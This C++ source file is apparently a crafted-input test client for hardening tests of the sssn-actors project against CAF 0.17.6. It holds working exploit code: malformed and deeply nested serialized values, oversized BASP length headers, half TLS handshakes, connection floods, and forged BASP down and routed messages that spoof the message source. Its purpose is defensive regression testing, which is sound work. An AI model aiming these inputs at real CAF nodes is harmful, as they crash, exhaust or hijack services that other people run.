// SPDX-FileCopyrightText: 2026 The sssn-actors developers
// SPDX-License-Identifier: BSD-3-Clause

// A crafted-input sender for integration_tests/hardened_caf.cpp: each mode
// sends a node one input that CAF 0.17.6 itself (Debian's build) crashes on,
// allocates without bound for, or spins on, before any sssn code runs (the
// table of issue 13, docs/caf-patches.md), or BASP messages whose source it
// believes although a peer forged it (issue 12; patch 0009).
//
//   crafted_peer bad-config-value  --port=N
//   crafted_peer deep-config-value --port=N [--depth=20000]
//   crafted_peer deep-message      --port=N [--depth=100000]
//   crafted_peer charbuf           --port=N
//   crafted_peer basp-huge         --port=N [--connections=4]
//                                  [--size=1073741824] [--hold=3]
//   crafted_peer tls-half-hello    --port=N [--hold=5]
//   crafted_peer flood             --port=N [--connections=150] [--hold=4]
//   crafted_peer forged-down       --port=N --node=NODE --actor=ID
//                                  [--count=1] [--hold=0]
//   crafted_peer forged-local      --port=N [--count=1] [--hold=0]
//
// The first four connect with CAF (a full BASP handshake, plain TCP) and send
// the node's directory one message whose element is registered here under
// the name of one of CAF's built-in types (`@config_value`, `@message`,
// `@charbuf`), with a serializer that writes the crafted bytes:
//   - bad-config-value: a config_value whose variant tag (200) names no
//     alternative;
//   - deep-config-value: a config_value list nested `depth` deep;
//   - deep-message: a caf::message nested `depth` deep;
//   - charbuf: a std::vector<char> whose length says 4 GiB-1, followed by 3
//     bytes.
// The others use raw TCP:
//   - basp-huge: `connections` connections, each sending one 32-byte BASP
//     header (client handshake) announcing a payload of `size` bytes, before
//     any handshake, then nothing, for `hold` seconds;
//   - tls-half-hello: half a TLS ClientHello (a record header announcing 512
//     bytes, and 100 of them), then nothing, for `hold` seconds;
//   - flood: `connections` connections at once, held for `hold` seconds.
// The last two speak BASP themselves over raw TCP (the node's server
// handshake, then a client handshake naming this process's node), so that
// they can write any source into a BASP message, as any peer can:
//   - forged-down: `count` BASP down messages saying that actor `actor` of
//     node `node` (as CAF prints node ids: `caf::to_string(node_id)`), an
//     actor of some other node, is down; Debian's CAF kills its proxy of
//     that actor, so whatever on the node monitors it sees it go down;
//   - forged-local: `count` routed BASP messages that name the node itself
//     as their source and its published actor (the directory) as both
//     sender and receiver, carrying an exit message with reason `kill`:
//     Debian's CAF delivers them as sent by the directory itself.
// Both print `held` once their messages are sent, keep the connection open
// for `hold` seconds (reading what the node sends), then print
// `closed 0|1` (whether the node closed it).
//
// Output (stdout), one `<key> <number>` per line, then `done`:
//   sent <mode> <count>
//   greeted <n>  connections on which the node sent something and that it
//                kept open (raw modes)
//   closed <n>   connections the node closed (whether it sent something
//                first or not)
//   silent <n>   connections with neither, 5 s after they were opened
//   failed <n>   connects that did not complete within 2 s
// `held` is printed once the connections are open and the input sent, so
// that a test can measure the node while they are held.
//
// Exit codes: 0 done, 1 could not connect or set up, 2 usage error.

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <iostream>
#include <optional>
#include <set>
#include <stdexcept>
#include <string>
#include <thread>
#include <type_traits>
#include <vector>

#include <caf/all.hpp>
#include <caf/detail/stringification_inspector.hpp>
#include <caf/io/all.hpp>
#include <caf/io/basp/header.hpp>
#include <caf/io/basp/message_type.hpp>

#include "sssn/all.hpp"

#include "peer_tools.hpp"

using namespace std::chrono_literals;
using steady = std::chrono::steady_clock;

namespace {

// -- types registered under the names of CAF's built-ins ----------------------

/// Saving writes `bytes` as they are (no length, no framing); loading is
/// never needed (the node does not answer with these).
template <int Tag>
struct raw_builtin {
  std::string bytes;
};

template <class Inspector, int Tag>
typename Inspector::result_type inspect(Inspector& f, raw_builtin<Tag>& x) {
  if constexpr (std::is_same<Inspector,
                             caf::detail::stringification_inspector>::value) {
    return f(caf::meta::type_name("raw_builtin"), x.bytes);
  } else if constexpr (Inspector::reads_state) {
    if (x.bytes.empty())
      return caf::none;
    return f.apply_raw(x.bytes.size(), x.bytes.data());
  } else {
    return caf::sec::invalid_argument;
  }
}

using raw_config_value = raw_builtin<0>;
using raw_message = raw_builtin<1>;
using raw_charbuf = raw_builtin<2>;

struct peer_config : caf::actor_system_config {
  peer_config() {
    add_message_type<raw_config_value>("@config_value");
    add_message_type<raw_message>("@message");
    add_message_type<raw_charbuf>("@charbuf");
    // Our types too, so that remote_actor<directory_actor> computes the
    // node's interface.
    sssn::add_message_types(*this);
    load<caf::io::middleman>();
    set("work-stealing.moderate-poll-attempts", 0);
  }
};

/// CAF's varbyte encoding of a sequence length (binary_serializer).
std::string varbyte(uint32_t x) {
  std::string result;
  do {
    auto low7 = static_cast<uint8_t>(x & 0x7F);
    x >>= 7;
    if (x != 0)
      low7 |= 0x80;
    result.push_back(static_cast<char>(low7));
  } while (x != 0);
  return result;
}

/// A serialized `begin_object(0, name)`: 16-bit zero, then the name.
std::string object_header(const std::string& name) {
  std::string result(2, '\0');
  result += varbyte(static_cast<uint32_t>(name.size()));
  result += name;
  return result;
}

// config_value's alternatives: integer, boolean, real, atom, timespan, uri,
// string, list, dictionary.
constexpr char config_value_integer = 0;
constexpr char config_value_list = 7;

std::string bad_config_value_bytes() {
  return std::string(1, static_cast<char>(200));
}

std::string deep_config_value_bytes(int depth) {
  std::string result;
  for (int i = 1; i < depth; ++i) {
    result.push_back(config_value_list);
    result += varbyte(1);
  }
  result.push_back(config_value_integer);
  result.append(8, '\0');
  return result;
}

std::string deep_message_bytes(int depth) {
  // The outer message names one `@message`; each nested one does too, and
  // the innermost is empty.
  auto level = object_header("@<>+@message");
  std::string result;
  result.reserve(level.size() * static_cast<size_t>(depth));
  for (int i = 1; i < depth; ++i)
    result += level;
  result += object_header("@<>");
  return result;
}

std::string charbuf_bytes() {
  return varbyte(0xFFFFFFFFu) + "abc";
}

// -- options --------------------------------------------------------------------

struct options {
  std::string mode;
  std::string host = "127.0.0.1";
  int port = 0;
  int depth = 0;
  int connections = 0;
  uint64_t size = 1073741824;
  int hold = -1;
  std::string node;
  uint64_t actor = 0;
  int count = 1;
};

std::optional<options> parse(int argc, char** argv) {
  options result;
  auto ok = peer_tools::parse_args(
    argc, argv, result.mode,
    [&](const std::string& key, const std::string& value) {
      if (key == "port")
        result.port = std::stoi(value);
      else if (key == "host")
        result.host = value;
      else if (key == "depth")
        result.depth = std::stoi(value);
      else if (key == "connections")
        result.connections = std::stoi(value);
      else if (key == "size")
        result.size = std::stoull(value);
      else if (key == "hold")
        result.hold = std::stoi(value);
      else if (key == "node")
        result.node = value;
      else if (key == "actor")
        result.actor = std::stoull(value);
      else if (key == "count")
        result.count = std::stoi(value);
      else
        return false;
      return true;
    });
  if (!ok || result.port <= 0 || result.port > 65535)
    return std::nullopt;
  return result;
}

// -- through CAF (after a full handshake) ---------------------------------------

template <class T>
int send_builtin(const options& opts, const char* kind, T value) {
  peer_config cfg;
  caf::actor_system sys{cfg};
  auto dir = sys.middleman().remote_actor<sssn::directory_actor>(
    opts.host, static_cast<uint16_t>(opts.port));
  if (!dir) {
    std::cout << "refused: " << sys.render(dir.error()) << std::endl;
    return 1;
  }
  std::cout << "connected" << std::endl;
  caf::anon_send(caf::actor_cast<caf::actor>(*dir), std::move(value));
  std::cout << "sent " << kind << " 1" << std::endl;
  // Give the bytes time to leave before the connection closes.
  std::this_thread::sleep_for(1s);
  std::cout << "done" << std::endl;
  return 0;
}

// -- raw TCP --------------------------------------------------------------------

/// Connects to host:port without blocking for more than `timeout`; returns
/// the socket or -1.
int connect_to(const options& opts, std::chrono::milliseconds timeout) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0)
    return -1;
  sockaddr_in addr;
  std::memset(&addr, 0, sizeof(addr));
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(opts.port));
  if (inet_pton(AF_INET, opts.host.c_str(), &addr.sin_addr) != 1) {
    close(fd);
    return -1;
  }
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    if (errno != EINPROGRESS) {
      close(fd);
      return -1;
    }
    pollfd pfd{fd, POLLOUT, 0};
    if (poll(&pfd, 1, static_cast<int>(timeout.count())) != 1) {
      close(fd);
      return -1;
    }
    int err = 0;
    socklen_t len = sizeof(err);
    if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) != 0 || err != 0) {
      close(fd);
      return -1;
    }
  }
  return fd;
}

/// Writes all of `bytes` (bounded by 2 s); false on failure.
bool send_all(int fd, const std::string& bytes) {
  size_t done = 0;
  auto deadline = steady::now() + 2s;
  while (done < bytes.size()) {
    auto n = send(fd, bytes.data() + done, bytes.size() - done, MSG_NOSIGNAL);
    if (n > 0) {
      done += static_cast<size_t>(n);
      continue;
    }
    if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
      return false;
    if (steady::now() >= deadline)
      return false;
    pollfd pfd{fd, POLLOUT, 0};
    poll(&pfd, 1, 100);
  }
  return true;
}

/// What the node did with a connection so far.
struct seen {
  bool data = false; // sent something
  bool eof = false;  // closed it (or reset it)
};

/// Reads what is there without blocking.
void look(int fd, seen& x) {
  char buf[4096];
  while (!x.eof) {
    auto n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
    if (n > 0) {
      x.data = true;
      continue;
    }
    if (n == 0) {
      x.eof = true;
      return;
    }
    if (errno == EINTR)
      continue;
    if (errno != EAGAIN && errno != EWOULDBLOCK)
      x.eof = true;
    return;
  }
}

/// Opens `n` connections, sends `payload` on each, reports, holds them for
/// `hold` seconds, closes them.
int raw_connections(const options& opts, const char* kind, int n,
                    const std::string& payload, int hold) {
  std::vector<int> fds;
  int failed = 0;
  for (int i = 0; i < n; ++i) {
    auto fd = connect_to(opts, 2000ms);
    if (fd < 0) {
      ++failed;
      continue;
    }
    if (!payload.empty() && !send_all(fd, payload)) {
      // The node may close a connection before it reads anything (over the
      // cap); that is for `look` to report.
    }
    fds.push_back(fd);
  }
  std::cout << "sent " << kind << ' ' << fds.size() << std::endl;
  std::cout << "held" << std::endl;
  // Let the node act on every connection, then look (bounded: 5 s, and at
  // least 500 ms, so that a node that greets and then closes is seen
  // closing).
  std::vector<seen> state(fds.size());
  auto start = steady::now();
  for (;;) {
    bool all_known = true;
    for (size_t i = 0; i < fds.size(); ++i) {
      look(fds[i], state[i]);
      all_known = all_known && state[i].eof;
    }
    auto elapsed = steady::now() - start;
    if ((all_known && elapsed >= 500ms) || elapsed >= 5s)
      break;
    std::this_thread::sleep_for(50ms);
  }
  int greeted = 0;
  int closed = 0;
  int silent = 0;
  for (auto& x : state) {
    if (x.eof)
      ++closed;
    else if (x.data)
      ++greeted;
    else
      ++silent;
  }
  std::cout << "greeted " << greeted << "\nclosed " << closed << "\nsilent "
            << silent << "\nfailed " << failed << std::endl;
  if (hold > 0)
    std::this_thread::sleep_for(std::chrono::seconds{hold});
  for (auto fd : fds)
    close(fd);
  std::cout << "done" << std::endl;
  return 0;
}

/// A 32-byte BASP header (caf/io/basp/header.hpp): operation, two bytes of
/// padding, flags, payload length, operation data, source and destination
/// actor, in network byte order.
std::string basp_header(uint8_t operation, uint32_t payload_len,
                        uint64_t operation_data) {
  std::string result;
  auto put = [&](uint64_t x, int bytes) {
    for (int i = bytes - 1; i >= 0; --i)
      result.push_back(static_cast<char>((x >> (8 * i)) & 0xFF));
  };
  put(operation, 1);
  put(0, 1);
  put(0, 1);
  put(0, 1);
  put(payload_len, 4);
  put(operation_data, 8);
  put(0, 8);
  put(0, 8);
  return result;
}

/// The first 100 bytes of a TLS record that announces a 512-byte
/// ClientHello: OpenSSL must wait for the rest.
std::string half_client_hello() {
  std::vector<uint8_t> bytes{
    0x16,             // handshake record
    0x03, 0x01,       // TLS 1.0 record version
    0x02, 0x00,       // record length: 512
    0x01,             // ClientHello
    0x00, 0x01, 0xFC, // handshake length: 508
    0x03, 0x03,       // client version: TLS 1.2
  };
  bytes.insert(bytes.end(), 32, 0x42); // random
  bytes.push_back(0x00); // no session id
  // one cipher suite
  for (uint8_t x : std::initializer_list<uint8_t>{0x00, 0x02, 0x13, 0x01})
    bytes.push_back(x);
  bytes.resize(100, 0x00);
  return std::string(bytes.begin(), bytes.end());
}

// -- raw BASP, with sources of our choosing -------------------------------------

namespace basp = caf::io::basp;

/// Reads exactly `n` bytes before `deadline`; false on failure or EOF.
bool recv_exact(int fd, char* out, size_t n, steady::time_point deadline) {
  size_t done = 0;
  while (done < n) {
    auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
      deadline - steady::now());
    if (left <= 0ms)
      return false;
    pollfd pfd{fd, POLLIN, 0};
    if (poll(&pfd, 1, static_cast<int>(left.count())) != 1)
      continue;
    auto r = recv(fd, out + done, n - done, 0);
    if (r > 0)
      done += static_cast<size_t>(r);
    else if (r == 0 || (errno != EAGAIN && errno != EWOULDBLOCK
                        && errno != EINTR))
      return false;
  }
  return true;
}

/// A BASP connection after the handshake: the node's id and the id of the
/// actor it publishes on the port.
struct basp_connection {
  int fd = -1;
  caf::node_id node;
  caf::actor_id published = 0;
};

/// Connects, reads the node's server handshake, answers with a client
/// handshake that names this process's node. Throws on failure.
basp_connection basp_connect(caf::actor_system& sys, const options& opts) {
  basp_connection result;
  result.fd = connect_to(opts, 2000ms);
  if (result.fd < 0)
    throw std::runtime_error("cannot connect");
  auto deadline = steady::now() + 5s;
  std::vector<char> buf(basp::header_size);
  if (!recv_exact(result.fd, buf.data(), buf.size(), deadline))
    throw std::runtime_error("no server handshake within 5 s");
  basp::header hdr;
  {
    caf::binary_deserializer source{sys, buf};
    if (auto err = source(hdr))
      throw std::runtime_error("unreadable BASP header");
  }
  if (hdr.operation != basp::message_type::server_handshake
      || hdr.payload_len > 65536)
    throw std::runtime_error("the node sent no server handshake");
  buf.resize(hdr.payload_len);
  if (!recv_exact(result.fd, buf.data(), buf.size(), deadline))
    throw std::runtime_error("truncated server handshake");
  std::vector<std::string> app_ids;
  std::set<std::string> sigs;
  {
    caf::binary_deserializer source{sys, buf};
    if (auto err = source(result.node, app_ids, result.published, sigs))
      throw std::runtime_error("unreadable server handshake: "
                               + sys.render(err));
  }
  auto me = sys.node();
  basp::header client{basp::message_type::client_handshake, 0, 0, 0,
                      caf::invalid_actor_id, caf::invalid_actor_id};
  if (!send_all(result.fd, peer_tools::frame(sys, client, peer_tools::serialize(sys, me))))
    throw std::runtime_error("cannot send the client handshake");
  return result;
}

/// Keeps `conn` open for `hold` seconds, reading what the node sends, and
/// reports whether the node closed it.
void hold_and_report(const basp_connection& conn, int hold) {
  std::cout << "held" << std::endl;
  seen state;
  auto until = steady::now() + std::chrono::seconds{std::max(hold, 0)};
  do {
    look(conn.fd, state);
    if (state.eof)
      break;
    std::this_thread::sleep_for(50ms);
  } while (steady::now() < until);
  look(conn.fd, state);
  std::cout << "closed " << (state.eof ? 1 : 0) << std::endl;
  close(conn.fd);
  std::cout << "done" << std::endl;
}

int forged_down(const options& opts) {
  caf::node_id victim;
  if (opts.node.empty() || opts.actor == 0
      || caf::parse(opts.node, victim) || victim == caf::none) {
    std::cerr << "forged-down needs --node=<node id> and --actor=<id>\n";
    return 2;
  }
  caf::actor_system_config cfg;
  caf::actor_system sys{cfg};
  auto conn = basp_connect(sys, opts);
  std::cout << "connected" << std::endl;
  caf::error reason = caf::make_error(caf::exit_reason::kill);
  for (int i = 0; i < opts.count; ++i) {
    basp::header hdr{basp::message_type::down_message, 0, 0, 0,
                     static_cast<caf::actor_id>(opts.actor),
                     caf::invalid_actor_id};
    auto payload = peer_tools::serialize(sys, victim, conn.node, reason);
    if (!send_all(conn.fd, peer_tools::frame(sys, hdr, payload)))
      throw std::runtime_error("the node closed the connection");
  }
  std::cout << "sent forged-down " << opts.count << std::endl;
  hold_and_report(conn, opts.hold);
  return 0;
}

int forged_local(const options& opts) {
  caf::actor_system_config cfg;
  caf::actor_system sys{cfg};
  auto conn = basp_connect(sys, opts);
  if (conn.published == caf::invalid_actor_id)
    throw std::runtime_error("the node publishes no actor on this port");
  std::cout << "connected" << std::endl;
  for (int i = 0; i < opts.count; ++i) {
    // Source and destination node: the node itself. Sender and receiver:
    // its published actor. No forwarding stages.
    auto msg = caf::make_message(
      caf::exit_msg{caf::actor_addr{},
                    caf::make_error(caf::exit_reason::kill)});
    std::vector<caf::strong_actor_ptr> stages;
    basp::header hdr{basp::message_type::routed_message, 0, 0,
                     caf::make_message_id().integer_value(), conn.published,
                     conn.published};
    auto payload = peer_tools::serialize(sys, conn.node, conn.node, stages, msg);
    if (!send_all(conn.fd, peer_tools::frame(sys, hdr, payload)))
      throw std::runtime_error("the node closed the connection");
  }
  std::cout << "sent forged-local " << opts.count << std::endl;
  hold_and_report(conn, opts.hold);
  return 0;
}

} // namespace

int main(int argc, char** argv) {
  auto opts = parse(argc, argv);
  if (!opts) {
    std::cerr << "usage: crafted_peer bad-config-value|deep-config-value|"
                 "deep-message|charbuf|basp-huge|tls-half-hello|flood|"
                 "forged-down|forged-local "
                 "--port=N [--host=H] [--depth=N] [--connections=N] "
                 "[--size=N] [--hold=S] [--node=NODE] [--actor=ID] "
                 "[--count=N]\n";
    return 2;
  }
  try {
    auto& o = *opts;
    if (o.mode == "bad-config-value")
      return send_builtin(o, "bad-config-value",
                          raw_config_value{bad_config_value_bytes()});
    if (o.mode == "deep-config-value")
      return send_builtin(o, "deep-config-value",
                          raw_config_value{deep_config_value_bytes(
                            o.depth > 0 ? o.depth : 20000)});
    if (o.mode == "deep-message")
      return send_builtin(o, "deep-message",
                          raw_message{deep_message_bytes(
                            o.depth > 0 ? o.depth : 100000)});
    if (o.mode == "charbuf")
      return send_builtin(o, "charbuf", raw_charbuf{charbuf_bytes()});
    if (o.mode == "basp-huge") {
      if (o.size > 0xFFFFFFFFu)
        return 2;
      // A client handshake (operation 1) with BASP version 3 as its
      // operation data, announcing the payload and never sending it.
      auto hdr = basp_header(1, static_cast<uint32_t>(o.size), 3);
      return raw_connections(o, "basp-huge",
                             o.connections > 0 ? o.connections : 4, hdr,
                             o.hold >= 0 ? o.hold : 3);
    }
    if (o.mode == "tls-half-hello")
      return raw_connections(o, "tls-half-hello", 1, half_client_hello(),
                             o.hold >= 0 ? o.hold : 5);
    if (o.mode == "flood")
      return raw_connections(o, "flood",
                             o.connections > 0 ? o.connections : 150, {},
                             o.hold >= 0 ? o.hold : 4);
    if (o.mode == "forged-down")
      return forged_down(o);
    if (o.mode == "forged-local")
      return forged_local(o);
    std::cerr << "unknown mode: " << o.mode << '\n';
    return 2;
  } catch (std::exception& ex) {
    std::cout << "failed: " << ex.what() << std::endl;
    return 1;
  }
}
